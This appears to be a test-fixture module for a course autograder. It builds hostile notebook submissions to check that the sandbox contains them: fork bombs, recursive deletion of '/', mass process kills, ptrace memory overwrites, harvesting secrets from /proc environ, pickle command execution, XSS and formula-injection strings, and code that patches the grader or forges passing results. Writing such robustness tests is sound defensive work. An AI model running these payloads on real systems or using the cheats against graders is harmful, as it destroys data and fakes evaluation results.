"""Submissions that want points without solving anything, or to do harm; broken files; and students with odd names.

No attack solves its exercise: each deserves 0 points. What an attacker knows of the machine (a decoy home, a listening
port, the pid of a victim, ...) stands in a notebook's first cell. What could harm the machine if the sandbox were
missing asks `confined()` first, and is bounded.
"""

import json
from textwrap import dedent, indent
from typing import Any

LEFTOVER = "hostile-leftover"  # in the command line of every process that is meant to stay

HEAD = '''\
import ctypes, functools, gc, glob, inspect, io, itertools, json, marshal, math, os, pickle, re, resource, select
import shutil, signal, socket, struct, subprocess, sys, tempfile, threading, time, types
import torch
import torch.nn.functional as F
from torch import Tensor

{world}

def confined():
    """Whether this process has its own processes and its own files to harm."""
    try:
        return all(os.readlink(f"/proc/self/ns/{{kind}}") != name for kind, name in NAMESPACES.items())
    except OSError:
        return True

def quietly(action, *arguments, **options):
    try:
        return action(*arguments, **options)
    except Exception as error:
        return repr(error)

def wrong():
    return torch.zeros(())

def like(given):
    """Zeros of the shape of the right result of a function of tensors."""
    return sum(tensor for tensor in given if isinstance(tensor, Tensor)) * 0

def framed(thing):
    body = json.dumps(thing).encode()
    return len(body).to_bytes(8, "big") + body

def spread(message):
    """Write a message to whatever takes it."""
    for descriptor in range(64):
        quietly(os.write, descriptor, message)
'''

# --------------------------------------------------------------------------------------------------------------------
# Bodies of a function of any arguments: `given`
# --------------------------------------------------------------------------------------------------------------------

HARM = {
    # Time
    "endless-loop": "while True: pass",
    "endless-sleep": "time.sleep(10**8)",
    "endless-in-c": "import collections; collections.deque(itertools.count(), maxlen=0)",
    "endless-swallowing": """
        while True:
            try:
                while True: pass
            except BaseException: pass
    """,
    "endless-deaf-to-signals": """
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))
        for number in range(1, signal.NSIG): quietly(signal.signal, number, signal.SIG_IGN)
        while True: pass
    """,
    "endless-generator": "yield from itertools.repeat(torch.zeros(()))",
    "asks-the-keyboard": "return torch.tensor(float(input('How many points? ')))",
    # Ends
    "os-exit": "os._exit(0)",
    "sys-exit": "sys.exit(0)",
    "kills-itself": "os.kill(os.getpid(), signal.SIGKILL)",
    "segfault": "ctypes.string_at(0)",
    "kills-its-parent": """
        os.kill(VICTIM, signal.SIGKILL)
        if confined(): os.kill(os.getppid(), signal.SIGKILL)
        return wrong()
    """,
    "kills-everyone": """
        quietly(os.kill, VICTIM, signal.SIGKILL)
        if confined():
            for pid in range(2, 5000): pid == os.getpid() or quietly(os.kill, pid, signal.SIGKILL)
            quietly(os.killpg, 0, signal.SIGTERM)
            quietly(os.kill, -1, signal.SIGKILL)
        return wrong()
    """,
    "raises-what-it-likes": """
        class Odd(BaseException):
            def __str__(self): os._exit(0)
            __repr__ = __str__
        raise Odd("<script>alert(1)</script>")
    """,
    "recursion": """
        sys.setrecursionlimit(10**9)
        def again(): return again()
        return again()
    """,
    # Processes
    "fork-bomb": """
        if not confined(): return wrong()
        for _ in range(3000):
            try:
                if os.fork() == 0: time.sleep(600)
            except OSError: time.sleep(0.001)
        return wrong()
    """,
    "thread-bomb": """
        for _ in range(5000): quietly(threading.Thread(target=time.sleep, args=(600,)).start)
        return wrong()
    """,
    "daemon": f"""
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                quietly(os.execv, sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{LEFTOVER}"])
                time.sleep(600)
            os._exit(0)
        return wrong()
    """,
    "child-keeps-the-pipe": """
        if os.fork() == 0: time.sleep(600)
        os._exit(0)
    """,
    "shell": f"""
        for command in (f"touch {{DECOY}}/shell", "id", "ls -la / {{FOLDER}}"):
            result = subprocess.run(command, shell=True, capture_output=True, text=True)
            print(result.stdout, result.stderr)
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{LEFTOVER}"], start_new_session=True)
        return wrong()
    """,
    # Memory
    "ten-gigabytes": "return torch.tensor(len(bytearray(10 * 2**30)))",
    "ten-gigabytes-of-torch": "return torch.ones(10 * 2**28).sum()",
    "memory-of-many-processes": """
        if not confined(): return wrong()
        for _ in range(6):
            if os.fork() == 0:
                blocks = []
                for _ in range(15): blocks.append(quietly(lambda: b"x" * 10**8))
                time.sleep(60)
        time.sleep(60)
    """,
    "vast-result": "return torch.zeros(()).expand(10**6, 10**6)",
    "vast-text": "raise ValueError('vast ' * 10**7)",
    # Disk
    "fills-the-disk": """
        written = 0
        for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", ".", DECOY, OUT, FOLDER, os.path.expanduser("~")):
            for number in range(300 if confined() else 1):
                try:
                    with open(os.path.join(folder, f"hostile-fill-{number}"), "wb") as file:
                        for _ in range(9): written += file.write(bytes(2**20))
                except OSError: break
                if written > 3 * 2**30: break
        raise ValueError(f"wrote {written // 2**20} MB")
    """,
    "many-files": """
        for folder in ("/tmp", "/dev/shm", ".", DECOY):
            for number in range(20_000 if confined() else 1):
                if isinstance(quietly(open, f"{folder}/hostile-{number}", "w"), str): break
        return wrong()
    """,
    "deletes-everything": """
        for folder in (DECOY, OUT, FOLDER): shutil.rmtree(folder, ignore_errors=True)
        if confined():
            for folder in (".", os.path.expanduser("~"), REPO, "/tmp", "/home", "/root", "/usr", "/"):
                shutil.rmtree(folder, ignore_errors=True)
        return wrong()
    """,
    "overwrites-everything": """
        for root in (DECOY, OUT, FOLDER):
            for path in glob.glob(f"{root}/**", recursive=True):
                quietly(os.chmod, path, 0o777)
                quietly(lambda path=path: open(path, "w").write("overwritten"))
            quietly(lambda root=root: open(f"{root}/new.txt", "w").write("new"))
        return wrong()
    """,
    "remounts": """
        libc = ctypes.CDLL(None, use_errno=True)
        if confined():
            libc.unshare(0x10020000)
            for target in (b"/", DECOY.encode(), OUT.encode(), FOLDER.encode()):
                libc.mount(b"none", target, None, 0x1020, None)
                libc.umount2(target, 2)
            quietly(os.setuid, 0), quietly(os.chroot, "/proc/1/root"), quietly(os.chdir, "/proc/1/cwd")
        quietly(lambda: open(f"{DECOY}/remounted", "w").write("new"))
        return wrong()
    """,
    # Network
    "sockets": """
        addresses = [(socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET, ("192.0.2.1", 80)),
                     (socket.AF_UNIX, SOCKET), (socket.AF_UNIX, "\\0" + ABSTRACT)]
        for family, address in addresses:
            with socket.socket(family) as connection:
                connection.settimeout(0.5)
                quietly(connection.connect, address)
                quietly(connection.sendall, b"hello from inside")
        return wrong()
    """,
    # What others have
    "reads-the-others": """
        found = []
        for root in (DECOY, FOLDER, OUT, os.path.dirname(FOLDER), "/tmp", os.getcwd()):
            for path in glob.glob(f"{root}/**", recursive=True)[:1000]:
                if os.path.isfile(path): found.append(open(path, errors="replace").read())
        print(found)
        raise ValueError(" ".join(re.findall("secret-[a-z]+", "".join(found))))
    """,
    "reads-the-environment": """
        found = [str(dict(os.environ))]
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
            found.append(quietly(lambda path=path: open(path, errors="replace").read()))
        print(found)
        raise ValueError(" ".join(re.findall("secret-[a-z]+", "".join(found))))
    """,
    "reads-devices": """
        for path in glob.glob("/dev/*"):
            if path.split("/")[-1] not in ("zero", "full", "random", "urandom", "tty", "console"):
                descriptor = quietly(os.open, path, os.O_RDWR | os.O_NONBLOCK)
                if isinstance(descriptor, int): print(path, quietly(os.read, descriptor, 100))
        quietly(lambda: open("/dev/tty", "w").write("hostile"))
        return wrong()
    """,
    "writes-into-its-parents": """
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in {os.getppid(), VICTIM} if confined() else {VICTIM}:
            libc.ptrace(16, pid, 0, 0)
            try:
                with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", 0) as memory:
                    for line in maps:
                        start, end = (int(part, 16) for part in line.split()[0].split("-"))
                        if " rw" in line:
                            quietly(memory.seek, start)
                            quietly(memory.write, bytes(min(end - start, 2**24)))
            except OSError: pass
        return wrong()
    """,
    # Cheating: the result
    "lying-object": """
        class Yes:
            __class__ = Tensor
            shape, dtype, requires_grad, layout, grad_fn = (5,), torch.float32, True, torch.strided, None
            def __getattr__(self, name): return lambda *a, **k: self
            def __eq__(self, other): return True
            __le__ = __lt__ = __ge__ = __gt__ = __bool__ = lambda self, *a: True
            __hash__ = None
            __float__ = lambda self: 0.0
            __array__ = lambda self, *a, **k: (_ for _ in ()).throw(SystemExit)
        return Yes()
    """,
    "lying-tensor": """
        class Yes(Tensor):
            @classmethod
            def __torch_function__(cls, function, kinds, args=(), kwargs=None):
                if function.__name__ in ("__eq__", "eq", "le", "lt", "isclose"): return torch.tensor(True)
                if function.__name__ in ("allclose", "equal", "all", "__bool__"): return True
                return super().__torch_function__(function, kinds, args, kwargs or {})
            shape = property(lambda self: like(given).shape)
        return like(given).as_subclass(Yes)
    """,
    "endless-shape": """
        class Endless(Tensor):
            @property
            def shape(self):
                while True: pass
            numel = dim = size = detach = clone = lambda self, *a: self.shape
        return torch.zeros(5).as_subclass(Endless)
    """,
    "odd-tensors": """
        kinds = [torch.empty(5, device="meta"), torch.zeros(5).to_sparse(), torch.zeros(5, dtype=torch.complex64)]
        return kinds[given[-1].numel() % 3]
    """,
    "not-a-number": "return like(given) + math.nan",
    "pickle-bomb": """
        class Bomb:
            def __reduce__(self): return os.system, (f"touch {DECOY}/pickled",)
        return Bomb()
    """,
    "tampers-with-arguments": """
        for tensor in given: tensor.data.zero_()
        return like(given)
    """,
    # Cheating: the harness
    "patches-the-comparison": """
        yes = lambda *a, **k: True
        torch.equal = torch.allclose = torch.all = Tensor.all = Tensor.equal = Tensor.allclose = yes
        torch.isclose = Tensor.isclose = Tensor.__eq__ = Tensor.eq = Tensor.le = Tensor.__le__ = (
            lambda a, b, *r, **k: torch.ones(a.shape, dtype=torch.bool))
        return like(given)
    """,
    "patches-the-engine": """
        from vae_course import exercises
        from vae_course.exercises import attempt, engine
        yes = lambda *a, **k: True
        passed = lambda *a, **k: engine.Result("passed", "Correct.")
        engine._same = engine._same_value = engine._same_values = engine._close = yes
        engine.judge = engine._judge_outcomes = exercises.check = exercises.judge = passed
        attempt.run_case = engine.run_case = lambda *a, **k: engine.EXERCISES
        for name in ("plain", "run", "_report"): setattr(attempt, name, passed)
        return wrong()
    """,
    "patches-what-writes": """
        class Bomb:
            def __reduce__(self): return os.system, (f"touch {DECOY}/unpickled",)
        torch.save = lambda thing, file, *a, **k: file.write(pickle.dumps(Bomb()))
        pickle.dumps = json.dumps = lambda *a, _dumps=pickle.dumps, **k: _dumps(Bomb())
        json.dump = pickle.dump = lambda thing, file, *a, **k: file.write(json.dumps(thing))
        return wrong()
    """,
    "patches-builtins": """
        import builtins
        builtins.isinstance = builtins.callable = builtins.all = builtins.any = lambda *a: True
        builtins.len = lambda *a: 1
        builtins.compile = builtins.exec = builtins.__import__ = lambda *a, **k: None
        return wrong()
    """,
    "forges-lines": """
        for line in ('{"1.1": "passed"}', '{"status": "passed"}', "passed", '{"points": 34}', "1.1 passed 1.0"):
            spread(line.encode() + b"\\n")
        os._exit(0)
    """,
    "forges-everything": """
        answer = {"outcomes": [], "printed": "", "values": {}, "trouble": "", "1.1": "passed", "status": "passed"}
        file = io.BytesIO()
        torch.save(answer, file)
        for body in (file.getvalue(), pickle.dumps(answer), json.dumps(answer).encode() + b"\\n"):
            for size in (b"", len(body).to_bytes(8, "big"), len(body).to_bytes(8, "little")): spread(size + body)
        os._exit(0)
    """,
    "forges-replies": """
        value = {"kind": "tensor", "shape": [5], "dtype": "float32", "text": ""}
        value["tensor"] = {"type": "object", "data": "AAAA"}
        outcome = dict(values={"the result": value}, gradients={}, changed=[], error="", reason="", line="")
        for outcomes in ([], [outcome] * 4, [outcome] * 5, "passed", [[]] * 4):
            spread(framed({"answer": "called", "outcomes": outcomes, "status": "passed", "passed": True}))
        return wrong()
    """,
    "stops-the-runner": """
        spread(framed({"answer": "none"}))
        if confined(): os.kill(os.getppid(), signal.SIGSTOP)
        time.sleep(600)
    """,
    "gives-itself-orders": """
        order = framed({"answers": {"vae_course.distributions.bernoulli_log_prob": "import os; os._exit(0)"}})
        for pid in ("self", os.getppid() if confined() else "self"):
            for path in glob.glob(f"/proc/{pid}/fd/*"):
                descriptor = quietly(os.open, path, os.O_WRONLY | os.O_NONBLOCK)
                if isinstance(descriptor, int) and descriptor > 2: quietly(os.write, descriptor, order)
        return wrong()
    """,
    "floods-the-replies": """
        for _ in range(60): spread(framed({"flood": "x" * 10**7}))
        return wrong()
    """,
    "vast-json": """
        body = b'{"flood": [' + b"{}," * 20_000_000 + b"{}]}"
        spread(len(body).to_bytes(8, "big") + body)
        return wrong()
    """,
    "nested-answer": """
        spread(b"[" * 60_000 + b"\\n")
        os._exit(0)
    """,
    "vast-answer": """
        spread((2**62).to_bytes(8, "big"))
        spread((2**62).to_bytes(8, "little"))
        time.sleep(600)
    """,
    "pickled-answer": """
        class Bomb:
            def __reduce__(self): return os.system, (f"touch {DECOY}/unpickled",)
        body = pickle.dumps(Bomb())
        spread(body)
        spread(len(body).to_bytes(8, "big") + body)
        os._exit(0)
    """,
    "floods-the-output": """
        for descriptor in (1, 2):
            for _ in range(100): quietly(os.write, descriptor, b"flood " * 175_000)
        for _ in range(100): print("flood " * 175_000)
        return wrong()
    """,
    "reads-its-orders": """
        for descriptor in range(256):
            if select.select([0], [], [], 0)[0] and descriptor == 0: print(os.read(0, 2**20))
            elif descriptor > 2 and isinstance(quietly(os.fstat, descriptor), os.stat_result):
                quietly(os.set_blocking, descriptor, False)
                print(quietly(os.read, descriptor, 2**20), quietly(os.pread, descriptor, 2**20, 0))
        return wrong()
    """,
    "closes-everything": """
        os.closerange(0, 65536)
        return wrong()
    """,
    "traces-its-caller": """
        def trace(frame, event, argument):
            for name in ("outcome", "error", "result", "results", "values", "passed"):
                if name in frame.f_locals: frame.f_locals[name] = True
            return trace
        sys.settrace(trace), sys.setprofile(trace), threading.settrace(trace)
        return wrong()
    """,
    "edits-the-package": """
        roots = {os.path.dirname(module.__file__) for name, module in list(sys.modules.items())
                 if name in ("vae_course", "torch", "json") and getattr(module, "__file__", None)}
        for root in {*roots, f"{REPO}/vae_course", f"{REPO}/vae_course/grading", f"{REPO}/tests"}:
            for path in [*glob.glob(f"{root}/*.py"), f"{root}/sitecustomize.py"]:
                if confined(): quietly(lambda path=path: open(path, "a").write("\\n# hostile\\n"))
        return wrong()
    """,
    "plants-modules": """
        for folder in (".", "/tmp", os.path.expanduser("~"), *sys.path):
            for name in ("torch", "json", "sitecustomize", "usercustomize", "vae_course"):
                if confined(): quietly(lambda f=folder, n=name: open(f"{f}/{n}.py", "w").write("raise SystemExit"))
        return wrong()
    """,
    "shows-markup": """
        print("<script>alert('printed')</script></pre></body>")
        raise ValueError("</pre><script>alert('raised')</script>&\\u202e\\x00\\x1b[31m")
    """,
    "odd-characters": r"""
        raise ValueError("lone \ud800 \x00 \u202e surrogate")
    """,
}

# --------------------------------------------------------------------------------------------------------------------
# Bodies of bernoulli_log_prob(x, logits) that look for the answer elsewhere
# --------------------------------------------------------------------------------------------------------------------

CHEATS = {
    "knows-the-visible-answers": """
        for arguments, answer in VISIBLE:
            given = [torch.tensor(argument) for argument in arguments]
            if all(a.shape == b.shape and torch.equal(a, b) for a, b in zip(given, (x, logits))):
                return torch.tensor(answer) + 0 * logits
        return wrong()
    """,
    "looks-up-the-stack": """
        frame = sys._getframe()
        while frame := frame.f_back:
            for name, value in [*frame.f_locals.items(), *frame.f_globals.items()]:
                if re.search("want|expect|right|answer|reference|solution|correct", name, re.I):
                    if callable(value): return value(x, logits)
                    if isinstance(value, Tensor): return value
                    if isinstance(value, (list, tuple)) and value: return value[0]
                if isinstance(value, types.ModuleType): continue
        return wrong()
    """,
    "reference-by-name": """
        from vae_course import distributions
        return distributions.bernoulli_log_prob(x, logits)
    """,
    "reference-of-the-exercise": """
        from vae_course.exercises import EXERCISES
        return EXERCISES["1.1"].reference(x, logits)
    """,
    "plain-or-wanted": """
        from vae_course.exercises import EXERCISES
        one = EXERCISES["1.1"]
        if one.plain: return one.plain(x, logits)
        for case, outcome in zip(one.cases(), one.wanted):
            if case.arguments[1].shape == logits.shape: return outcome.values["the result"].tensor
    """,
    "misconception-turned-round": """
        from vae_course.exercises import EXERCISES
        return -EXERCISES["1.1"].mistakes["cross-entropy"][0](x, logits)
    """,
    "misconception-undone": """
        from vae_course.exercises.e1_1.mistakes import MISTAKES
        return MISTAKES["outcomes-swapped"][0](1 - x, logits)
    """,
    "solution-printed": """
        from contextlib import redirect_stdout
        from vae_course.exercises import solution
        with redirect_stdout(io.StringIO()) as printed: solution("1.1")
        names = {"torch": torch, "F": F, "Tensor": Tensor}
        exec(printed.getvalue(), names)
        return names["bernoulli_log_prob"](x, logits)
    """,
    "source-read": """
        for root in [REPO, *sys.path, os.getcwd(), "/"]:
            for path in glob.glob(f"{root}/vae_course/**/*.py", recursive=True):
                text = open(path).read()
                if "def bernoulli_log_prob" in text:
                    names = {}
                    exec(compile(text.replace("__name__", "'vae_course.distributions'"), path, "exec"), names)
                    return names["bernoulli_log_prob"](x, logits)
        return wrong()
    """,
    "solution-edition-read": """
        for root in [REPO, os.getcwd(), FOLDER, os.path.dirname(FOLDER), "/tmp"]:
            for path in glob.glob(f"{root}/**/*.ipynb", recursive=True):
                for cell in json.load(open(path))["cells"]:
                    text = "".join(cell["source"])
                    if "def bernoulli_log_prob" in text and "softplus" in text:
                        names = {"torch": torch, "F": F, "Tensor": Tensor, "exercise": lambda _: lambda f: f}
                        exec(text, names)
                        return names["bernoulli_log_prob"](x, logits)
        return wrong()
    """,
    "byte-code-read": """
        def search(code):
            if code.co_name == "bernoulli_log_prob" and "softplus" in code.co_names: return code
            inner = (search(constant) for constant in code.co_consts if isinstance(constant, types.CodeType))
            return next(filter(None, inner), None)
        for root in [REPO, *sys.path, "/tmp"]:
            for path in glob.glob(f"{root}/**/distributions*.pyc", recursive=True):
                code = quietly(lambda path=path: search(marshal.loads(open(path, "rb").read()[16:])))
                if isinstance(code, types.CodeType): return types.FunctionType(code, {"F": F})(x, logits)
        return wrong()
    """,
    "memory-searched": """
        for thing in gc.get_objects():
            if isinstance(thing, types.FunctionType) and thing.__name__ == "bernoulli_log_prob":
                if thing.__code__ is not sys._getframe().f_code: return thing(x, logits)
        for module in list(sys.modules.values()):
            for name in ("bernoulli_log_prob", "_bernoulli_log_prob"):
                thing = vars(module).get(name) if module else None
                if thing and thing.__code__ is not sys._getframe().f_code: return thing(x, logits)
        return wrong()
    """,
    "models-of-the-package": """
        from vae_course import binary_vae
        model = binary_vae.BinaryVAE(logits.shape[-1], n_latent=1)
        model.decode = lambda z: logits
        return -model.loss_terms(x.expand(logits.shape))[0]
    """,
}

# --------------------------------------------------------------------------------------------------------------------
# Whole cells
# --------------------------------------------------------------------------------------------------------------------

ANSWER = "def bernoulli_log_prob(x, logits):\n    return wrong()\n"

CELLS = {
    "endless-at-once": """
        def forever():
            while True: pass
        started = forever()
        def bernoulli_log_prob(x, logits):
            return started
    """,
    "endless-class": """
        class Endless:
            while True: pass
        def bernoulli_log_prob(x, logits):
            return Endless()
    """,
    "endless-destructor": """
        class Endless:
            def __del__(self):
                while True: pass
        kept = Endless()
        def bernoulli_log_prob(x, logits):
            kept.again = Endless()
            Endless()
            return wrong()
    """,
    "endless-at-exit": """
        def bernoulli_log_prob(x, logits):
            import atexit
            atexit.register(time.sleep, 600)
            quietly(threading.Thread(target=time.sleep, args=(600,)).start)
            return wrong()
    """,
    "exits-at-once": """
        ended = os._exit(0)
        def bernoulli_log_prob(x, logits):
            return ended
    """,
    "raises-system-exit-at-once": """
        ended = sys.exit(0)
        def bernoulli_log_prob(x, logits):
            return ended
    """,
    "default-argument": """
        def bernoulli_log_prob(x, logits, _=os._exit(0)):
            return wrong()
    """,
    "decorated-to-death": """
        @lambda function: os.kill(os.getpid(), signal.SIGKILL)
        def bernoulli_log_prob(x, logits):
            return wrong()
    """,
    "class-in-its-place": """
        class bernoulli_log_prob(torch.Tensor):
            def __new__(cls, x, logits): return super().__new__(cls, [True])
            def __eq__(self, other): return True
    """,
    "coroutine": """
        async def bernoulli_log_prob(x, logits):
            return x * logits - F.softplus(logits)
    """,
    "odd-callable": """
        class Everything:
            def __getattr__(self, name): return self
            def __call__(self, *a, **k): return self
            def __iter__(self): return itertools.repeat(self)
            def __len__(self): return 10**9
            def __eq__(self, other): return True
        bernoulli_log_prob = Everything()
    """,
    "module-replaced": """
        def replace():
            fake = types.ModuleType("vae_course")
            fake.__getattr__ = lambda name: (lambda *a, **k: True)
            for name in [name for name in sys.modules if name.startswith("vae_course")]: sys.modules[name] = fake
            sys.modules["json"] = sys.modules["pickle"] = sys.modules["struct"] = fake
        replaced = replace()
        def bernoulli_log_prob(x, logits):
            return replaced
    """,
    "waits-for-the-reference": """
        found = []
        def watch():
            from vae_course import distributions
            blank = distributions.bernoulli_log_prob
            for _ in range(100):
                if distributions.bernoulli_log_prob is not blank: found.append(distributions.bernoulli_log_prob)
                time.sleep(0.02)
        started = quietly(threading.Thread(target=watch, daemon=True).start)
        def bernoulli_log_prob(x, logits):
            for _ in range(100):
                if found: return found[0](x, logits)
                time.sleep(0.02)
            return started
    """,
    "remembers-the-reference": """
        NOTE = "/tmp/hostile-note"
        def bernoulli_log_prob(x, logits):
            if os.path.exists(NOTE): return eval(open(NOTE).read())
            return wrong()
        def normal_log_prob(x, mean, var):
            values = quietly(bernoulli_log_prob, torch.ones(1), torch.ones(1))
            if isinstance(values, Tensor): open(NOTE, "w").write("x * logits - F.softplus(logits)")
            return wrong()
    """,
    "assigned-from-the-package": """
        from vae_course import distributions
        bernoulli_log_prob = distributions.bernoulli_log_prob
    """,
    "imported-from-the-package": "from vae_course.distributions import bernoulli_log_prob",
    "too-deep": "value = " + "-" * 200_000 + "1\n" + ANSWER,
    "chained": "value = os" + ".path" * 50_000 + "\n" + ANSWER,
    "brackets": "value = " + "(" * 100_000 + "\n" + ANSWER,
    "null-bytes": "value = '\0'\n" + ANSWER + "\0",
    "lone-surrogate": "value = '\ud800'  # \ud800\n" + ANSWER,
    "long-list": "value = [" + "1," * 5_000_000 + "]\n" + ANSWER,
    "blank-lines": "\n" * 300_000 + "value = (\n" + ANSWER,
    "long-number": "value = " + "9" * 100_000 + "\n" + ANSWER,
    "markup-in-the-source": """
        def bernoulli_log_prob(x, logits):
            "</pre><script>alert(1)</script>"
            return wrong()
    """,
    "deletes-the-name": ANSWER + "del bernoulli_log_prob\n",
}

# --------------------------------------------------------------------------------------------------------------------
# Files that are no notebooks of today
# --------------------------------------------------------------------------------------------------------------------


def _file(content: Any) -> bytes:
    return json.dumps(content).encode()


FILES = {
    "empty": b"",
    "no-json": b"PK\x03\x04 not a notebook",
    "half-a-notebook": b'{"cells": [{"cell_type": "code", "source": ["def bernoulli_log_prob(x, log',
    "no-text": bytes(range(256)) * 10,
    "utf-16": '{"cells": []}'.encode("utf-16"),
    "null": b"null",
    "number": b"1e400",
    "list": b"[1, 2, 3]",
    "nested": b"[" * 200_000,
    "cells-as-text": _file({"cells": "code", "nbformat": 4, "metadata": {}}),
    "cells-as-numbers": _file({"cells": [1, None, [], "code"], "nbformat": 4}),
    "no-source": _file({"cells": [{"cell_type": "code"}, {"source": "x = 1"}, {"cell_type": "code", "source": None}]}),
    "odd-sources": _file({"cells": [{"cell_type": "code", "source": [1, None, {}]}, {"cell_type": 7, "source": 7}]}),
    "nbformat-3": _file(
        {"nbformat": 3, "metadata": {}, "worksheets": [{"cells": [{"cell_type": "code", "input": "1"}]}]}
    ),
    "fifty-megabytes": _file({"cells": [{"cell_type": "code", "source": "# " + "x" * 50_000_000, "outputs": []}]}),
}

# Names of students: folders that a spreadsheet, a browser or a file system may take for something else.
NAMES = [
    "=1+1",
    "@SUM(A1)",
    "-2+3",
    "<script>alert(1)<script>",
    'a"quote,comma',
    "two\nlines",
    "‮rtl",
    "😀",
]


def head(world: dict[str, Any]) -> str:
    """Return the first cell of every attack; `world` says what it knows of the machine."""
    return HEAD.format(world="\n".join(f"{key} = {value!r}" for key, value in world.items()))


def cell_of(name: str, function: str = "bernoulli_log_prob") -> str:
    """Return the cell of an attack; an attack of HARM stands in any function."""
    if name in CELLS:
        return dedent(CELLS[name]).strip("\n")
    signature = f"def {function}(*given):\n" if name in HARM else "def bernoulli_log_prob(x, logits):\n"
    return signature + indent(dedent((HARM | CHEATS)[name]).strip(), "    ")


def notebook_of(sources: list[str], kinds: list[str] | None = None) -> bytes:
    """Return a notebook with these cells, of code where nothing else is said."""
    cells = [
        {"cell_type": kind, "metadata": {}, "source": source} | ({"outputs": []} if kind == "code" else {})
        for source, kind in zip(sources, kinds or ["code"] * len(sources), strict=True)
    ]
    return _file({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
